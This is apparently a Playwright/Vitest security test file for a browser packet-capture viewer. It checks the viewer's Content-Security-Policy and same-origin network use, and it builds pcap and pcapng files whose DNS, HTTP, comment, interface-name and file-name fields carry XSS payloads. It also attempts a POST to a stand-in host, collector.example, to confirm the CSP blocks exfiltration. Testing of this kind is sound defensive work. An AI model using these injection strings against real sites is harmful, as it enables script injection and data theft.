// What keeps a capture on the machine and its contents inert:
//  - index.html carries the Content-Security-Policy (a <meta>, so it travels with any static host):
//    everything from this origin only, no inline script, no eval;
//  - a session with a capture — open, select, expand, filter, the sample, the service worker's
//    precaching — makes requests to the app's own origin and nowhere else, from the page, the
//    engine worker and the service worker alike, and trips no CSP violation;
//  - text taken from a capture (a DNS name, a TXT record, an HTTP request line, pcapng comments and
//    interface names, the file name itself) shows as text in the grid, the tree, the bytes and the
//    tooltips, and runs nothing.
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { CAPTURES, expectedFrames, launch, openFiles, statusText, waitForPackets } from './browser.ts';

const BASE = inject('baseURL');
const ORIGIN = new URL(BASE).origin;

// ---------------------------------------------------------------------------------------------
// Hostile captures, built here: Ethernet / IPv4 / UDP-DNS and TCP-HTTP, in pcap and pcapng.

const DNS_NAME = '<img src=x onerror=alert(1)>.example.com';
const TXT = '<script>window.__pwned=2</script>';
const HTTP_LINE = 'GET /<script>window.__pwned=1</script> HTTP/1.1';
const HTTP_HOST = 'Host: <img src=x onerror=alert(6)>';
const EPB_COMMENT = '<img src=x onerror=alert(3)><script>window.__pwned=3</script>';
const SHB_COMMENT = '<iframe srcdoc="<script>parent.__pwned=4</script>"></iframe>';
const IF_NAME = '<b onmouseover=alert(5)>eth0</b>';
/** A file name is capture data too (Linux allows all of this but "/"). */
const PCAPNG_NAME = '<img src=x onerror=alert(7)>.pcapng';

const u16 = (v: number): Buffer => Buffer.from([v >> 8, v & 0xff]);
const u32 = (v: number): Buffer => Buffer.from([v >>> 24, (v >>> 16) & 0xff, (v >>> 8) & 0xff, v & 0xff]);

/** RFC 1071 ones' complement sum. */
function checksum(b: Buffer): number {
  let s = 0;
  for (let i = 0; i < b.length; i += 2) s += (b[i] as number) * 256 + (b[i + 1] ?? 0);
  while (s > 0xffff) s = (s & 0xffff) + (s >>> 16);
  return ~s & 0xffff;
}

const SRC = Buffer.from([192, 0, 2, 10]);
const DST = Buffer.from([198, 51, 100, 53]);

function ipv4(proto: number, payload: Buffer, src = SRC, dst = DST): Buffer {
  const h = Buffer.concat([Buffer.from([0x45, 0]), u16(20 + payload.length), u16(0x1c46), u16(0x4000), Buffer.from([64, proto]), u16(0), src, dst]);
  h.writeUInt16BE(checksum(h), 10);
  return Buffer.concat([h, payload]);
}

function ethernet(payload: Buffer): Buffer {
  return Buffer.concat([Buffer.from('0011223344556677889900aa', 'hex'), u16(0x0800), payload]);
}

function dnsName(name: string): Buffer {
  return Buffer.concat([...name.split('.').map((l) => Buffer.concat([Buffer.from([Buffer.byteLength(l)]), Buffer.from(l, 'latin1')])), Buffer.from([0])]);
}

function udp(sport: number, dport: number, payload: Buffer): Buffer {
  return Buffer.concat([u16(sport), u16(dport), u16(8 + payload.length), u16(0), payload]);
}

function dnsQuery(): Buffer {
  const dns = Buffer.concat([u16(0x1234), u16(0x0100), u16(1), u16(0), u16(0), u16(0), dnsName(DNS_NAME), u16(1), u16(1)]);
  return ethernet(ipv4(17, udp(53000, 53, dns)));
}

function dnsResponse(): Buffer {
  const txt = Buffer.concat([Buffer.from([TXT.length]), Buffer.from(TXT)]);
  const answer = Buffer.concat([u16(0xc00c), u16(16), u16(1), u32(300), u16(txt.length), txt]);
  const dns = Buffer.concat([u16(0x1234), u16(0x8180), u16(1), u16(1), u16(0), u16(0), dnsName(DNS_NAME), u16(16), u16(1), answer]);
  return ethernet(ipv4(17, udp(53, 53000, dns), DST, SRC));
}

function httpRequest(): Buffer {
  const payload = Buffer.from(`${HTTP_LINE}\r\n${HTTP_HOST}\r\n\r\n`);
  const tcp = Buffer.concat([u16(41000), u16(80), u32(1000), u32(2000), Buffer.from([0x50, 0x18]), u16(502), u16(0), u16(0)]);
  const pseudo = Buffer.concat([SRC, DST, Buffer.from([0, 6]), u16(tcp.length + payload.length)]);
  tcp.writeUInt16BE(checksum(Buffer.concat([pseudo, tcp, payload])), 16);
  return ethernet(ipv4(6, Buffer.concat([tcp, payload])));
}

/** Classic pcap, little-endian, microseconds, Ethernet. */
function pcap(frames: Buffer[]): Buffer {
  const header = Buffer.alloc(24);
  header.writeUInt32LE(0xa1b2c3d4, 0);
  header.writeUInt16LE(2, 4);
  header.writeUInt16LE(4, 6);
  header.writeUInt32LE(65535, 16);
  header.writeUInt32LE(1, 20);
  const records = frames.map((f, i) => {
    const r = Buffer.alloc(16);
    r.writeUInt32LE(1_700_000_000 + i, 0);
    r.writeUInt32LE(1000 * i, 4);
    r.writeUInt32LE(f.length, 8);
    r.writeUInt32LE(f.length, 12);
    return Buffer.concat([r, f]);
  });
  return Buffer.concat([header, ...records]);
}

/** pcapng options: code, length, value padded to 32 bits; opt_endofopt. */
function options(opts: [number, string][]): Buffer {
  const parts = opts.map(([code, text]) => {
    const v = Buffer.from(text, 'utf8');
    const o = Buffer.alloc(4 + Math.ceil(v.length / 4) * 4);
    o.writeUInt16LE(code, 0);
    o.writeUInt16LE(v.length, 2);
    v.copy(o, 4);
    return o;
  });
  return Buffer.concat([...parts, Buffer.alloc(4)]);
}

function block(type: number, body: Buffer): Buffer {
  const len = 12 + body.length;
  const b = Buffer.alloc(len);
  b.writeUInt32LE(type, 0);
  b.writeUInt32LE(len, 4);
  body.copy(b, 8);
  b.writeUInt32LE(len, len - 4);
  return b;
}

/** pcapng: SHB and IDB with HTML in their comment and name, EPBs with an HTML comment. */
function pcapng(frames: Buffer[]): Buffer {
  const shb = block(0x0a0d0d0a, Buffer.concat([u32le(0x1a2b3c4d), Buffer.from([1, 0, 0, 0]), Buffer.alloc(8, 0xff), options([[1, SHB_COMMENT], [4, '<script>alert(8)</script>']])]));
  const idb = block(1, Buffer.concat([Buffer.from([1, 0, 0, 0]), u32le(0), options([[2, IF_NAME], [3, '<svg onload=alert(9)>']])]));
  const epbs = frames.map((f, i) => {
    const data = Buffer.alloc(Math.ceil(f.length / 4) * 4);
    f.copy(data);
    const ts = BigInt(1_700_000_000 + i) * 1_000_000n;
    return block(6, Buffer.concat([u32le(0), u32le(Number(ts >> 32n)), u32le(Number(ts & 0xffffffffn)), u32le(f.length), u32le(f.length), data, options([[1, EPB_COMMENT]])]));
  });
  return Buffer.concat([shb, idb, ...epbs]);
}

function u32le(v: number): Buffer {
  const b = Buffer.alloc(4);
  b.writeUInt32LE(v >>> 0, 0);
  return b;
}

// ---------------------------------------------------------------------------------------------

/** Everything a capture could have injected, as found in the page: should stay empty. */
function injected(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const found: string[] = [];
    if ((window as unknown as { __pwned?: unknown }).__pwned !== undefined) found.push('window.__pwned is set');
    for (const el of Array.from(document.querySelectorAll('img, iframe, object, embed'))) found.push(`<${el.localName}> element`);
    for (const el of Array.from(document.querySelectorAll('script'))) if (!el.src || new URL(el.src).origin !== location.origin) found.push(`script ${el.outerHTML.slice(0, 80)}`);
    for (const el of Array.from(document.querySelectorAll('*'))) {
      for (const a of Array.from(el.attributes)) if (/^on/i.test(a.name)) found.push(`${el.localName}[${a.name}]`);
    }
    for (const el of Array.from(document.querySelectorAll('b, svg[onload]'))) if (el.textContent?.includes('eth0')) found.push(`<${el.localName}> from the capture`);
    return found;
  });
}

/** Expand every layer of the selected packet's tree. */
async function expandAll(page: Page): Promise<void> {
  const tree = page.getByRole('tree', { name: 'Packet details' });
  await tree.getByRole('treeitem').first().waitFor();
  const tops = await tree.locator('[role="treeitem"][aria-level="1"]').count();
  for (let i = 0; i < tops; i++) {
    const item = tree.locator('[role="treeitem"][aria-level="1"]').nth(i);
    await item.click();
    await page.keyboard.press('*');
  }
}

function treeText(page: Page): Promise<string> {
  return page.getByRole('tree', { name: 'Packet details' }).evaluate((t) => Array.from(t.querySelectorAll('[role="treeitem"]'), (e) => e.textContent ?? '').join('\n'));
}

/** The bytes pane's ASCII column, lines joined: the payload as text. */
function asciiText(page: Page): Promise<string> {
  return page.getByLabel('Packet bytes').evaluate((b) => Array.from(b.querySelectorAll('.ascii'), (e) => e.textContent ?? '').join(''));
}

/** Every title attribute (tooltips) in the page. */
function tooltips(page: Page): Promise<string[]> {
  return page.evaluate(() => Array.from(document.querySelectorAll('[title]'), (e) => e.getAttribute('title') ?? ''));
}

async function selectRow(page: Page, n: number): Promise<void> {
  const row = page.locator(`[role="grid"][aria-label="Packet list"] [role="row"][aria-rowindex="${n}"]`);
  await row.click();
  await page.locator(`[role="row"][aria-rowindex="${n}"][aria-selected="true"]`).waitFor();
  await row.hover();
}

describe('privacy and safety', () => {
  let browser: Browser;
  const tmp = mkdtempSync(join(tmpdir(), 'decapod-privacy-'));

  beforeAll(async () => {
    browser = await launch();
  });
  afterAll(async () => {
    await browser?.close();
    rmSync(tmp, { recursive: true, force: true });
  });

  it('index.html carries a Content-Security-Policy: this origin only, no inline script', async () => {
    const html = await (await fetch(BASE)).text();
    const meta = /<meta\s+http-equiv="Content-Security-Policy"\s+content="([^"]+)"/i.exec(html);
    expect(meta, 'CSP <meta> in index.html').not.toBeNull();
    const directives = new Map(
      (meta?.[1] ?? '')
        .split(';')
        .map((d) => d.trim().split(/\s+/))
        .filter((d) => d[0])
        .map((d) => [d[0] as string, d.slice(1)]),
    );
    expect(directives.get('default-src')).toEqual(["'self'"]);
    expect(directives.get('connect-src')).toEqual(["'self'"]);
    const script = directives.get('script-src') ?? directives.get('default-src') ?? [];
    expect(script).not.toContain("'unsafe-inline'");
    expect(script).not.toContain("'unsafe-eval'");
    expect(directives.get('object-src')).toEqual(["'none'"]);
    // no origin but this one, anywhere in the policy
    for (const [name, sources] of directives) for (const s of sources) expect(["'self'", "'none'", "'unsafe-inline'", 'data:', 'blob:'], `${name} ${s}`).toContain(s);
    // the page's own scripts are files of this origin: no inline script, no third-party tag
    for (const tag of html.match(/<script\b[^>]*>/gi) ?? []) expect(tag).toMatch(/\ssrc="\.?\/?[^":]+"/);
    expect(html).not.toMatch(/<(?:script|link|img|iframe)\b[^>]*\s(?:src|href)="(?:https?:)?\/\//i);
  });

  it('sends every request of a session with a capture to its own origin', async () => {
    const context: BrowserContext = await browser.newContext({ viewport: { width: 1440, height: 900 }, serviceWorkers: 'allow' });
    const requests: string[] = [];
    // the page's requests, the engine worker's and the service worker's (precaching)
    context.on('request', (r) => requests.push(r.url()));
    const page = await context.newPage();
    // and Chromium's own account of network traffic from every target, workers included
    const cdp = await context.newCDPSession(page);
    const cdpRequests: string[] = [];
    cdp.on('Network.requestWillBeSent', (e: { request: { url: string } }) => cdpRequests.push(e.request.url));
    await cdp.send('Network.enable');
    const violations: string[] = [];
    await page.exposeFunction('__cspViolation', (v: string) => violations.push(v));
    await page.addInitScript(() => {
      document.addEventListener('securitypolicyviolation', (e) => {
        (window as unknown as { __cspViolation: (v: string) => void }).__cspViolation(`${e.violatedDirective} ${e.blockedURI}`);
      });
    });
    const errors: string[] = [];
    page.on('pageerror', (e) => errors.push(e.message));

    await page.goto(BASE);
    await page.getByRole('grid', { name: 'Packet list' }).waitFor();
    await page.evaluate(async () => {
      await navigator.serviceWorker.ready;
    });
    const file = 'dns_udp.pcap';
    await openFiles(page, [join(CAPTURES, file)]);
    await waitForPackets(page, expectedFrames(file) as number);
    for (let n = 1; n <= Math.min(3, expectedFrames(file) as number); n++) {
      await selectRow(page, n);
      await expandAll(page);
    }
    const filter = page.locator('input[aria-label="Display filter"]');
    await filter.fill('dns.flags.response == 1');
    await filter.press('Enter');
    // dns_udp.pcap: a query and its response
    await page.waitForFunction(() => /Displayed: 1\b/.test(document.querySelector('footer[role="status"]')?.textContent ?? ''));
    await selectRow(page, 1);
    await filter.fill('');
    await filter.press('Enter');
    await page.getByRole('button', { name: 'Open sample capture' }).click();
    await waitForPackets(page, 60);
    await page.waitForFunction(() => /Displayed: 60\b/.test(document.querySelector('footer[role="status"]')?.textContent ?? ''));
    await selectRow(page, 5);
    await expandAll(page);

    // the worker's requests are visible at all (the engine script): the net catches workers too
    expect(requests.some((u) => /capture\.worker-[\w-]+\.js$/.test(u))).toBe(true);
    const elsewhere = [...requests, ...cdpRequests].filter((u) => !u.startsWith('data:') && !u.startsWith('blob:') && new URL(u).origin !== ORIGIN);
    expect(elsewhere).toEqual([]);
    // what the page itself recorded agrees
    const resources = await page.evaluate(() => performance.getEntriesByType('resource').map((e) => e.name));
    expect(resources.filter((u) => new URL(u).origin !== ORIGIN)).toEqual([]);
    expect(violations).toEqual([]);
    expect(errors).toEqual([]);

    // and were a script of the page to try, the CSP would stop it before any byte left
    const attempt = await page.evaluate(() =>
      fetch('https://collector.example/upload', { method: 'POST', body: 'capture bytes' }).then(
        () => 'sent',
        () => 'blocked',
      ),
    );
    expect(attempt).toBe('blocked');
    await expect.poll(() => violations).toEqual(['connect-src https://collector.example/upload']);
    await context.close();
  });

  it('shows HTML from a capture as text and runs none of it', async () => {
    const pcapFile = join(tmp, 'hostile.pcap');
    writeFileSync(pcapFile, pcap([dnsQuery(), dnsResponse(), httpRequest()]));
    const pcapngFile = join(tmp, PCAPNG_NAME);
    writeFileSync(pcapngFile, pcapng([dnsQuery(), httpRequest()]));

    const context = await browser.newContext({ viewport: { width: 1440, height: 900 } });
    const page = await context.newPage();
    const dialogs: string[] = [];
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    const errors: string[] = [];
    page.on('pageerror', (e) => errors.push(e.message));
    await page.goto(BASE);
    await page.getByRole('grid', { name: 'Packet list' }).waitFor();

    await openFiles(page, [pcapFile]);
    await waitForPackets(page, 3);
    const grid = page.getByRole('grid', { name: 'Packet list' });
    // the grid: the DNS name in Info, as text
    await grid.getByText(DNS_NAME, { exact: false }).first().waitFor();
    expect(await grid.textContent()).toContain(DNS_NAME);

    // the tree, fully expanded, with tooltips; and the bytes
    await selectRow(page, 1);
    await expandAll(page);
    expect(await treeText(page)).toContain(DNS_NAME);
    for (const item of await page.getByRole('treeitem').all()) await item.hover();
    await selectRow(page, 2);
    await expandAll(page);
    expect(await treeText(page)).toContain(TXT);
    await selectRow(page, 3);
    await expandAll(page);
    expect(await asciiText(page)).toContain(HTTP_LINE);
    expect(await asciiText(page)).toContain(HTTP_HOST);
    expect(await injected(page)).toEqual([]);

    // pcapng: comments and interface names, and a file name that is HTML
    await openFiles(page, [pcapngFile]);
    await waitForPackets(page, 2);
    expect(await statusText(page)).toContain(PCAPNG_NAME);
    expect(await page.title()).toContain(PCAPNG_NAME);
    for (const n of [1, 2]) {
      await selectRow(page, n);
      await expandAll(page);
      const text = await treeText(page);
      expect(text).toContain(EPB_COMMENT);
      for (const item of await page.getByRole('treeitem').all()) await item.hover();
    }
    expect(await asciiText(page)).toContain(HTTP_LINE);
    await page.getByRole('status').first().hover();
    // tooltips hold the text as it is (an attribute, never markup)
    expect((await tooltips(page)).some((t) => t.includes(PCAPNG_NAME))).toBe(true);

    // a filter on the hostile string matches it as a string
    const filter = page.locator('input[aria-label="Display filter"]');
    await filter.fill(`frame.comment contains "${'<script>'}"`);
    await filter.press('Enter');
    await page.waitForFunction(() => (document.querySelector('footer[role="status"]')?.textContent ?? '').includes('Displayed: 2'));

    await page.waitForTimeout(300);
    expect(await injected(page)).toEqual([]);
    expect(dialogs).toEqual([]);
    expect(errors).toEqual([]);
    await context.close();
  });
});
